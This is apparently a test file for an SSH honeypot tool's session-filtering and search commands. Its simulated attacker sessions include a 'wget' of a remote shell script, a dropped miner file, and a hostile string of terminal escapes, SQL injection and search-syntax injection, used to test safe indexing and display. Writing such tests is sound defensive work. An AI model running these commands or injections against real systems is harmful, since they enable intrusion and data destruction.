import assert from "node:assert/strict";
import { writeFileSync } from "node:fs";
import { join } from "node:path";
import { DatabaseSync } from "node:sqlite";
import { test, type TestContext } from "node:test";
import { addFilterOptions } from "../../gateway/commands/filter-options.ts";
import { searchCommand } from "../../gateway/commands/search.ts";
import { sessionsCommand, type SessionsOptions } from "../../gateway/commands/sessions.ts";
import { IndexReader } from "../../gateway/index/query.ts";
import { rebuildIndex } from "../../gateway/index/rebuild.ts";
import { IndexStore } from "../../gateway/index/store.ts";
import { LONGEST_TEXT, MOST_TEXTS } from "../../gateway/index/texts.ts";
import type { Capture } from "../../gateway/model/capture.ts";
import { Command } from "commander";
import { Conversation, SANDBOX } from "../evidence/conversation.ts";
import { LOOKED_UP } from "../evidence/network-facts.ts";
import { dataFolder, Live, putCapture, putLateFacts } from "../archivist/folder.ts";
import { Heard } from "./heard.ts";

const SHA = "c0ffee".padEnd(64, "0");
/** Would clear the screen, retitle the window and turn text around, if it were printed as it is; and ends what quotes begin. */
const HOSTILE =
  '\x1b[2J\x1b]0;owned\x07\xe2\x80\xae\'"; DROP TABLE texts; -- " OR NOT (a* NEAR b) {x}: \xff\x00end';

/** Three that came from one address, an hour, six minutes and half a minute ago; the last is still there. */
async function told(t: TestContext): Promise<string> {
  const data = dataFolder(t);
  const one = new Conversation("aaaaaaaaaaaa").hello().password("root", "123456", "refused");
  one.after(2000).password("root", "hunter2", "accepted").leased();
  const channel = one.after(900).open();
  one.exec(channel, HOSTILE).exits(channel, 0);
  one.exec(
    one.after(3000).open(),
    `${"long ".repeat(500)}wget http://203.0.113.9/%D1%84\xd1\x84.sh ${"x".repeat(1_000_000)}TOO-FAR`,
  );
  one.forward("mail.example", 25);
  await finish(data, one, (folder) => {
    putCapture(data, folder, CAPTURE);
    putLateFacts(data, folder, [LOOKED_UP]);
  });
  const two = new Conversation("bbbbbbbbbbbb", "2026-11-23T03:10:00.000000Z").hello("SSH-2.0-Go");
  await finish(data, two.password("admin", "pi", "refused"), () => undefined);
  const three = new Conversation("cccccccccccc", "2026-11-23T03:15:07.000000Z").login("pi", "raspberry");
  three.exec(three.open(), "uname -a");
  new Live(data, three.session).write(three.entries);
  return data;
}

async function finish(data: string, talk: Conversation, beside: (folder: string) => void): Promise<void> {
  const live = new Live(data, talk.session);
  live.write(talk.entries);
  beside(await live.finish(talk.end()));
}

const CAPTURE: Capture = {
  sandbox: SANDBOX,
  sessions: [],
  source: "192.0.2.7",
  takenAt: "2026-11-23T02:20:00.000Z",
  cut: false,
  changes: [
    { kind: "A", path: "/tmp/.hid\x1b[2Jden/miner.bin", type: "file", size: 9, sha256: SHA },
    { kind: "A", path: "/tmp/.folder-alone", type: "directory" },
  ],
};

for (const indexed of [true, false]) {
  const how = indexed ? "with an index" : "without an index";

  test(`sessions takes every filter, ${how}`, async (t) => {
    const data = await told(t);
    if (indexed) await rebuildIndex(data);
    const found = async (filter: object) => await idsOf(sessionsCommand, { data, ...filter });
    for (const [filter, ids] of [
      [{ source: "192.0.2.0/24" }, "cba"],
      [{ source: "192.0.2.7" }, "cba"],
      [{ source: "192.0.2.8/29" }, ""],
      [{ since: "2026-11-23T03:00", until: "2026-11-23T03:12Z" }, "b"],
      [{ since: "today", until: "2026-11-23" }, "cba"],
      [{ until: "yesterday" }, ""],
      [{ user: "pi" }, "c"],
      [{ user: "root", password: "123456" }, "a"],
      [{ user: "root", password: "" }, ""],
      [{ password: "*i" }, "b"],
      [{ command: "drop table TEXTS" }, "a"],
      [{ command: "uname" }, "c"],
      [{ file: "MINER" }, "a"],
      [{ file: "miner.*" }, "a"],
      [{ file: "folder" }, ""],
      [{ sha256: "C0FFEE" }, "a"],
      [{ sha256: SHA }, "a"],
      [{ client: "go" }, "b"],
      [{ hassh: "0123456789abcdef0123456789abcdef" }, "cba"],
      [{ hassh: "012345" }, "cba"],
      [{ forward: "mail.example:2*" }, "a"],
      [{ persona: "debian-*" }, "cba"],
      [{ sandbox: SANDBOX.slice(0, 4) }, "ca"],
      [{ loggedIn: true }, "ca"],
      [{ failed: true }, "b"],
      [{ live: true }, "c"],
      [{ minDuration: "5s" }, "a"],
      [{ user: "root", live: true }, ""],
      [{ limit: "1" }, "c"],
    ] as const)
      assert.equal(await found(filter), ids, JSON.stringify(filter));
  });

  test(`search finds words and parts of everything, ${how}`, async (t) => {
    const data = await told(t);
    if (indexed) await rebuildIndex(data);
    const found = async (...texts: string[]) =>
      await idsOf((options, heard) => searchCommand(texts, options, heard), { data });
    for (const [texts, ids] of [
      [["192.0.2"], "cba"],
      [["HUNTER"], "a"],
      [["pi"], "cb"],
      [["raspberry", "uname"], "c"],
      [["raspberry", "hunter2"], ""],
      [["//203.0.113.9/%d1%84Ф"], ""],
      [["//203.0.113.9/%d1%84ф"], "a"],
      [["mail.example:25"], "a"],
      [["updates.example"], "a"],
      [["hid\x1b[2jden"], "a"],
      [["c0ffee"], "a"],
      [["ssh-2.0-go"], "b"],
      [["89abcdef"], "cba"],
      [[SANDBOX], "ca"],
      [["TOO-FAR"], ""],
      [['" OR NOT (a* NEAR b) {x}:'], "a"],
      [["'\"; --"], ""],
      [["texts_parts MATCH"], ""],
      [["%"], undefined],
      [["x".repeat(100_000)], ""],
    ] as const)
      if (ids === undefined) await assert.rejects(found(...texts), { code: "bad-usage" });
      else assert.equal(await found(...texts), ids, JSON.stringify(texts).slice(0, 100));
  });

  test(`search tells where it stands, and nothing of it reaches the terminal raw, ${how}`, async (t) => {
    const data = await told(t);
    if (indexed) await rebuildIndex(data);
    const heard = new Heard();
    assert.equal(await searchCommand(["den", "203.0.113.9/"], { data, user: "root" }, heard), 0);
    const [head, ...lines] = heard.out.trimEnd().split("\n");
    assert.match(
      head ?? "",
      /^aaaaaaaaaaaa {2}2026-11-23 02:15:37 {2}60 min ago {2}192\.0\.2\.7 {2}root \/ hunter2 {2}client-closed$/,
    );
    assert.deepEqual(lines, [
      "  user            +0.0 s  root",
      `  command         +6.0 s  …g long long wget http://203.0.113.9/%D1%84ф.sh ${"x".repeat(52)}…`,
      "  URL             +6.0 s  http://203.0.113.9/%D1%84ф.sh",
      "  file                    /tmp/.hid\\x1b[2Jden/miner.bin",
    ]);
    const hostile = new Heard();
    await searchCommand(["owned"], { data }, hostile);
    assert.match(hostile.out, /command {9}\+\d\.\d s {2}\\x1b\[2J\\x1b\]0;owned\\x07\\xe2\\x80\\xae'"; DROP/);
    // eslint-disable-next-line no-control-regex
    assert.doesNotMatch(heard.out + hostile.out, /[\x00-\x09\x0b-\x1f\x7f-\x9f\u202e]/);
  });

  test(`search --json has each text to the byte, ${how}`, async (t) => {
    const data = await told(t);
    if (indexed) await rebuildIndex(data);
    const heard = new Heard();
    await searchCommand(["owned"], { data, json: true }, heard);
    const { id, user, matches } = JSON.parse(heard.out) as {
      id: string;
      user: string;
      matches: { kind: string; at: number; textBytes: string }[];
    };
    assert.deepEqual([id, user, matches.map(({ kind }) => kind)], ["aaaaaaaaaaaa", "root", ["command"]]);
    assert.equal(Buffer.from(matches[0]?.textBytes ?? "", "base64").toString("latin1"), HOSTILE);
    assert.ok((matches[0]?.at ?? 0) > 2.9);
  });
}

test("what is indexed of a flood is bounded", async (t) => {
  const data = dataFolder(t);
  const flood = new Conversation("aaaaaaaaaaaa").login();
  const channel = flood.open();
  for (let number = 0; number < 300; number++) flood.exec(channel, `big ${number} ${"y".repeat(20_000)}`);
  await finish(data, flood, () => undefined);
  const many = new Conversation("bbbbbbbbbbbb").login();
  for (let number = 0; number < MOST_TEXTS + 200; number++)
    many.password("u", `pass ${number} word`, "refused");
  await finish(data, many, () => undefined);
  await rebuildIndex(data);
  using database = new DatabaseSync(join(data, "index.sqlite"), { readOnly: true });
  const longest = database
    .prepare("SELECT max(length(text)) AS n, sum(length(text)) AS all_of_it FROM texts")
    .get();
  assert.equal(longest?.["n"], LONGEST_TEXT);
  assert.ok(Number(longest["all_of_it"]) < 1_300_000);
  const mentions = database
    .prepare("SELECT count(*) AS n FROM mentions WHERE session = 'bbbbbbbbbbbb'")
    .get();
  assert.equal(mentions?.["n"], MOST_TEXTS);
  assert.equal(await idsOf(sessionsCommand, { data, command: "big 7 " }), "a");
  assert.equal(await idsOf(sessionsCommand, { data, password: "pass 4000 word" }), "b");
});

test("a filter that means nothing is told with its option and what to write", async (t) => {
  const data = dataFolder(t);
  for (const [options, says, remedy] of [
    [{ since: "last week" }, /^--since last week is no time\.$/, /2h/],
    [{ since: "2026-02-30" }, /^--since 2026-02-30 is no time\.$/, /2026-11-23/],
    [{ until: "\x1b[2J" }, /^--until \\x1b\[2J is no time\.$/, /today/],
    [{ since: "1h", until: "2h" }, /^--since 1h is after --until 2h\.$/, /earlier/],
    [{ source: "example.com" }, /^--source example\.com is neither/, /203\.0\.113\.0\/24/],
    [{ source: "203.0.113.0/33" }, /^--source 203\.0\.113\.0\/33 is neither/, /2001:db8/],
    [{ source: "2001:db8::/129" }, /^--source 2001:db8::\/129 is neither/, /203/],
    [{ command: "x" }, /^--command "x" is too short/, /two/],
    [{ sha256: "xyz" }, /^--sha256 xyz is none\.$/, /6 to 64 hexadecimal/],
    [{ hassh: "0".repeat(33) }, /^--hassh 0+ is none\.$/, /6 to 32/],
    [{ sandbox: ".." }, /^--sandbox \.\. is none\.$/, /3 to 12/],
    [{ minDuration: "long" }, /^--min-duration long is no length/, /5m/],
    [{ typist: "cat" }, /^--typist cat is nobody/, /human or machine/],
    [{ limit: "0" }, /^--limit 0 is no number/, /1 or more/],
    [{ loggedIn: true, failed: true }, /^--logged-in and --failed/, /one of them/],
  ] as const)
    for (const command of [sessionsCommand, searchOf("ab")])
      await assert.rejects(
        command({ data, ...options }, new Heard()),
        (error: Error & { code: string; remedy: string }) => {
          assert.equal(error.code, "bad-usage");
          assert.match(error.message, says);
          assert.match(error.remedy, remedy);
          return true;
        },
      );
  await assert.rejects(searchCommand(["a"], { data }, new Heard()), {
    message: '"a" is too short to look for.',
  });
});

test("each filter of the code is an option of the command line", () => {
  const names = addFilterOptions(new Command()).options.map((option) => option.attributeName());
  assert.deepEqual(names.sort(), [
    ...[
      "client",
      "command",
      "failed",
      "file",
      "forward",
      "hassh",
      "indicator",
      "limit",
      "live",
      "loggedIn",
      "minDuration",
    ],
    ...["password", "persona", "profile", "sandbox", "sha256", "since", "source", "typist", "until", "user"],
  ]);
});

test("an index that is being made says how much it lacks, and one of another version is not read", async (t) => {
  const data = await told(t);
  const all = new Heard();
  {
    using index = IndexStore.open(data);
    const before = new Heard();
    await sessionsCommand({ data }, before);
    assert.match(before.err, /not whole: recordings are still to be taken in/);
    index.awaits(["aaaaaaaaaaaa", "bbbbbbbbbbbb"]);
    await sessionsCommand({ data }, all);
    assert.match(all.err, /not whole: 2 recordings still to be taken in/);
    assert.deepEqual(all.out.match(/^[abc]{12}/gm), ["cccccccccccc"]);
  }
  await rebuildIndex(data);
  const whole = new Heard();
  await sessionsCommand({ data }, whole);
  assert.equal(whole.err, "");
  {
    using database = new DatabaseSync(join(data, "index.sqlite"));
    database.exec("PRAGMA user_version = 2");
  }
  const other = new Heard();
  await sessionsCommand({ data }, other);
  assert.match(other.err, /^There is no index, or one of another version; reading 3 recordings /);
  assert.deepEqual(other.out.match(/^[abc]{12}/gm), ["cccccccccccc", "bbbbbbbbbbbb", "aaaaaaaaaaaa"]);
  writeFileSync(join(data, "index.sqlite"), "no database");
  assert.equal(IndexReader.open(data), undefined);
});

type Run = (options: SessionsOptions, heard: Heard) => Promise<number>;

function searchOf(text: string): Run {
  return (options, heard) => searchCommand([text], options, heard);
}

/** First letters of the ids that it prints. */
async function idsOf(command: Run, options: SessionsOptions): Promise<string> {
  const heard = new Heard();
  assert.equal(await command({ ...options, json: true }, heard), 0);
  return heard.out
    .split("\n")
    .filter(Boolean)
    .map((line) => (JSON.parse(line) as { id: string }).id[0])
    .join("");
}
